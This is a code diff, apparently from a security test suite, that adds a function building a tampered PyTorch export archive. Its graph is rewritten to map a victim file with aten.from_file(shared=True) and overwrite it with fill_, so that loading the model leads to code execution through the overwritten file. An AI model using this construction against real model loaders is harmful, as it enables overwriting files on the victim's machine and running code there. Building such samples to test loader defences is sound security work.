@@ -127,3 +127,37 @@ def shared_library(canary: Path, out: Path) -> Path | None:
                       f'  FILE *f = fopen("{canary}", "w"); if (f) {{ fputs("executed", f); fclose(f); }}\n}}\n')
     subprocess.run([compiler, "-shared", "-fPIC", "-o", str(out), str(source)], check=True, capture_output=True)
     return out
+
+
+def file_write(victim: Path, size: int, byte: int = 65):
+    """A graph whose first nodes map ``victim`` with ``aten.from_file(path, shared=True, size=N)`` and
+    overwrite it with ``fill_``: code execution by file write when ``victim`` is a .py file run later.
+    Built from nodes torch serializes itself (a uint8 ``zeros`` and its ``fill_``), retargeted."""
+    class Planted(torch.nn.Module):
+        def forward(self, x):
+            planted = torch.zeros(size, dtype=torch.uint8)
+            planted.fill_(byte)
+            return x
+
+    buffer = io.BytesIO()
+    torch.export.save(torch.export.export(Planted(), (torch.zeros(1),)), buffer)
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
+        name = next(n for n in archive.namelist() if n.endswith("models/model.json"))
+        graph = json.loads(archive.read(name))["graph_module"]["graph"]
+    opened, filled = graph["nodes"][:2]
+    values = {}
+    for node, name in ((opened, "planted_file"), (filled, "planted_fill")):  # names no real graph uses
+        values[name] = graph["tensor_values"][node["outputs"][0]["as_tensor"]["name"]]
+        node["outputs"][0]["as_tensor"]["name"] = node["name"] = name
+    opened["target"] = "torch.ops.aten.from_file.default"
+    opened["inputs"] = [{"name": "filename", "arg": {"as_string": str(victim)}, "kind": 1},
+                        {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
+                        {"name": "size", "arg": {"as_int": size}, "kind": 1},
+                        {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2}]
+    filled["inputs"][0]["arg"]["as_tensor"]["name"] = "planted_file"
+
+    def change(document):
+        target = document["graph_module"]["graph"]
+        target["nodes"][:0] = [opened, filled]
+        target["tensor_values"].update(values)
+    return _model_json(change)
